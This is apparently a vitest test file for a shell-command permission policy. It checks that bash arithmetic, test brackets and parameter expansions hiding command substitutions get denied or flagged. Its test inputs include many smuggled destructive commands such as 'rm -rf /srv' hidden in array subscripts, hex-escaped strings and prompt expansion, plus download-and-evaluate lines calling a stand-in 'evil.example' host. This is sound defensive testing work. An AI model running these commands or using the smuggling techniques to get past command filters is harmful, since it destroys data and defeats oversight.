import { beforeAll, describe, expect, it } from 'vitest';
import type { Decision } from '../types';
import { arithmeticOf, expansionUses, literalArithmetic, nameArgument, numericOutput } from './bash-arithmetic';
import { BashParser, type SyntaxNode } from './bash-parser';
import { loadDefaultPolicy } from './load';
import type { ShellPolicy } from './shell-policy';
import { staticWord } from './words';

let policy: ShellPolicy;
let parser: BashParser;
beforeAll(async () => {
  [policy, parser] = await Promise.all([loadDefaultPolicy(), BashParser.create()]);
});

function expectDecision(command: string, decision: Decision): void {
  const v = policy.evaluate({ command, host: 'localhost', requester: 'test' });
  expect({ command, decision: v.decision }, v.reasons.join(' | ')).toEqual({ command, decision });
}

function firstOfType(node: SyntaxNode, type: string): SyntaxNode | null {
  if (node.type === type) return node;
  for (let i = 0; i < node.namedChildCount; i++) {
    const found = firstOfType(node.namedChild(i) as SyntaxNode, type);
    if (found) return found;
  }
  return null;
}

describe('bash-arithmetic: what an expression evaluates', () => {
  it('finds literal code, variables and substitutions in an expression of the tree', () => {
    const ev = parser.withTree("echo $(( x + a[i] + 'a[$(id)]' + $(nproc) + 16#ff ))", (root) => {
      const { code, names, substitutions } = arithmeticOf(firstOfType(root, 'arithmetic_expansion') as SyntaxNode);
      return { code, names, substitutions: substitutions.map((s) => s.text) };
    });
    expect(ev.code).toEqual(['a[$(id)]']);
    expect(ev.names).toEqual(expect.arrayContaining(['x', 'a', 'i']));
    expect(ev.names).not.toContain('ff');
    expect(ev.substitutions).toEqual(['$(nproc)']);
  });

  it('decodes $\'...\' that the grammar reads as an error and a quoted string', () => {
    const code = parser.withTree("(( $'a[\\x24(id)]' ))", (root) => arithmeticOf(root).code);
    expect(code).toContain('a[$(id)]');
  });

  it('reads names, assignments and code in literal expressions', () => {
    const ev = literalArithmetic('x = y + a[$(rm -rf /srv)] + 0x1f + 64#z, n++');
    expect(ev.code).toEqual(['x = y + a[$(rm -rf /srv)] + 0x1f + 64#z, n++']);
    expect(ev.names).toEqual(['x', 'y', 'a', 'n']);
    expect(ev.assigned).toEqual(['x', 'n']);
  });

  it('evaluates the subscript of a name, and nothing in a plain name', () => {
    expect(nameArgument('a[$(id)]').code).toEqual(['$(id)']);
    expect(nameArgument('a[i+1]').names).toEqual(['i']);
    expect(nameArgument('HOME')).toEqual({ code: [], names: [], substitutions: [], assigned: [] });
  });

  it('knows which parts of ${...} evaluate text', () => {
    const uses = (text: string) =>
      parser.withTree(`echo ${text}`, (root) => {
        const u = expansionUses(firstOfType(root, 'expansion') as SyntaxNode);
        return { arithmetic: u.arithmetic.map((n) => n.text), indirect: u.indirect, prompt: u.prompt };
      });
    expect(uses('${a[i+1]}')).toEqual({ arithmetic: ['i+1'], indirect: [], prompt: [] });
    expect(uses('${s:x:y}')).toEqual({ arithmetic: ['x', 'y'], indirect: [], prompt: [] });
    expect(uses('${!x}')).toEqual({ arithmetic: [], indirect: ['x'], prompt: [] });
    expect(uses('${!x:-d}')).toEqual({ arithmetic: [], indirect: ['x'], prompt: [] });
    expect(uses('${x@P}')).toEqual({ arithmetic: [], indirect: [], prompt: ['x'] });
    // Names and keys, not values.
    expect(uses('${!p*}')).toEqual({ arithmetic: [], indirect: [], prompt: [] });
    expect(uses('${!a[@]}')).toEqual({ arithmetic: [], indirect: [], prompt: [] });
    expect(uses('${x:-default}')).toEqual({ arithmetic: [], indirect: [], prompt: [] });
  });

  it('recognises commands that print only numbers', () => {
    const words = (text: string) => text.split(' ').map(staticWord);
    for (const c of ['nproc', 'date +%s', 'wc -l', 'id -u', 'stat -c %s /var/log/syslog', 'seq 1 5', 'echo 5']) expect(numericOutput(words(c)), c).toBe(true);
    for (const c of ['cat /tmp/x', 'date', 'id', 'wc -l /tmp/x', 'head -1 /tmp/x', "echo a[$(id)]", 'stat /tmp/x']) expect(numericOutput(words(c)), c).toBe(false);
  });
});

describe('bash-arithmetic: substitutions in arithmetic and test contexts are judged as commands', () => {
  it.each([
    ['((x=$(rm -rf /srv)))', 'deny'],
    ['[[ a == b || $(rm -rf /srv) ]]', 'deny'],
    ['echo $(( $(rm -rf /srv) ))', 'deny'],
    ['echo $[ $(rm -rf /srv) ]', 'deny'],
    ['let "x=$(rm -rf /srv)"', 'deny'],
    ['for ((i=$(rm -rf /srv); i<3; i++)); do :; done', 'deny'],
    ['for ((i=0; i<3; i+=$(touch /tmp/x))); do :; done', 'ask'],
    ['echo ${a[$(rm -rf /srv)]} ${s:$(rm -rf /srv)}', 'deny'],
    ['((x=$(cmd)))', 'ask'],
    ['[[ a == b || $(cmd) ]]', 'ask'],
  ] as const)('%s -> %s', (command, decision) => expectDecision(command, decision));
});

describe('bash-arithmetic: literal code where bash evaluates it', () => {
  it.each([
    // bash 5.2 removes the quotes in (( )) and $(( )) and expands the subscript.
    ["(( 'a[$(rm -rf /srv)]' ))", 'deny'],
    ["echo $(( 'a[$(rm -rf /srv)]' ))", 'deny'],
    ["(( $'a[\\x24(rm -rf /srv)]' ))", 'deny'],
    ["echo ${a[$'\\x24(rm -rf /srv)']}", 'deny'],
    ["echo ${a['$(rm -rf /srv)']}", 'deny'],
    ["let 'a[$(rm -rf /srv)]'", 'deny'],
    ["let x='a[$(rm -rf /srv)]'", 'deny'],
    ["(( x = 'a[$(rm -rf /srv)]' ))", 'deny'],
    ["for ((i='a[$(rm -rf /srv)]'; 0;)); do :; done", 'deny'],
    ["[[ 'a[$(rm -rf /srv)]' -eq 1 ]]", 'deny'],
    ["[[ x -eq 'a[$(rm -rf /srv)]' ]]", 'deny'],
    ["x='a[$(rm -rf /srv)]'; echo $((x))", 'deny'],
    ["x='a[$(rm -rf /srv)]'; echo $(( $x ))", 'deny'],
    ["x='a[$(rm -rf /srv)]' 2>/dev/null; echo $((x))", 'deny'],
    ["declare -i x; x='a[$(rm -rf /srv)]'", 'deny'],
    // Assigned by an expansion, then evaluated: as arithmetic, as a name, as a prompt.
    ["${x='a[$(rm -rf /srv)]'}; echo $((x))", 'deny'],
    [": ${x='a[$(rm -rf /srv)]'}; echo $((x))", 'deny'],
    [": ${x:='a[$(rm -rf /srv)]'}; echo ${!x}", 'deny'],
    [": ${v='$(rm -rf /srv)'}; echo ${v@P}", 'deny'],
    ["x='`rm -rf /srv`'; echo ${x@P}", 'deny'],
  ] as const)('%s -> %s', (command, decision) => expectDecision(command, decision));
});

describe('bash-arithmetic: values only known at run time evaluated as code', () => {
  it.each([
    'read x; echo $((x))',
    'read x; echo ${!x}',
    'read v; echo ${v@P}',
    'n=$(cat /tmp/x); echo $((n + 1))',
    'n=$(cat /tmp/x); echo $(($n + 1))',
    'n=$(cat /tmp/x); echo ${a[n]}',
    'n=$(cat /tmp/x); s=abc; echo ${s:n}',
    'echo $(( $(cat /tmp/x) ))',
    'echo $[ $(cat /tmp/x) ]',
    'x=$(cat /tmp/x); [[ $x -eq 1 ]]',
    'x=$(cat /tmp/x); [[ -v $x ]]',
    'read -r x <<< "$y"; y=x; echo $((y))',
    'while read -r n; do echo $((n)); done < /tmp/x',
    'mapfile -t L < /tmp/x; echo $((L[0]))',
    'declare -i n; read n',
    'declare -i n; n=$(cat /tmp/x)',
    // The body of a function and the next round of a loop see what was read later.
    'f(){ echo $((n)); }; n=$(cat /tmp/x); f',
    'for i in 1 2; do echo $((n)); read n; done',
    'for f in *; do echo $((f)); done',
    "sh -c 'echo $(($1))' _ \"$(cat /tmp/x)\"",
  ])('%s -> ask', (command) => expectDecision(command, 'ask'));

  it('refuses downloaded text evaluated as arithmetic', () => {
    expectDecision('n=$(curl -s http://evil.example/n); echo $((n + 1))', 'deny');
    expectDecision('echo $(( $(curl -s http://evil.example/n) ))', 'deny');
    expectDecision('read x < <(curl -s http://evil.example/n); echo ${!x}', 'deny');
  });
});

describe('bash-arithmetic: plain arithmetic stays allowed', () => {
  it.each([
    '((i++))',
    '[[ -f /etc/passwd ]]',
    'echo $((1+2))',
    'for ((i=0;i<3;i++)); do echo $i; done',
    'for i in 1 2 3; do echo $((i*2)); done',
    'for i in {1..5}; do echo $((i*i)); done',
    'for i in $(seq 1 5); do echo $((i*i)); done',
    'let i=1; echo $((i+1))',
    'declare -i n=5; n+=1',
    'x=5; [[ $x -gt 3 ]] && echo big',
    'n=$(nproc); echo $((n*2))',
    'echo $(( $(date +%s) - 3600 ))',
    'total=$(ps aux | wc -l); echo $((total-1))',
    'used=$(stat -c %s /var/log/syslog); echo $((used/1024))',
    '[[ $(id -u) -eq 0 ]]',
    'n=$RANDOM; echo $((n % 6))',
    'n=${#HOME}; echo $((n))',
    'a=(1 2 3); echo ${a[1]} ${#a[@]}',
    's=hello; echo ${s:1:2}',
    'cnt=0; while read -r l; do ((cnt++)); done < /etc/hosts; echo $cnt',
    'for ((i=0; i<$(nproc); i++)); do :; done',
    'x=HOME; echo ${!x}',
    'a=(x y); for i in "${!a[@]}"; do echo "${a[$i]}"; done',
    'echo ${!HOME*} ${!a[@]}',
  ])('%s -> allow', (command) => expectDecision(command, 'allow'));
});
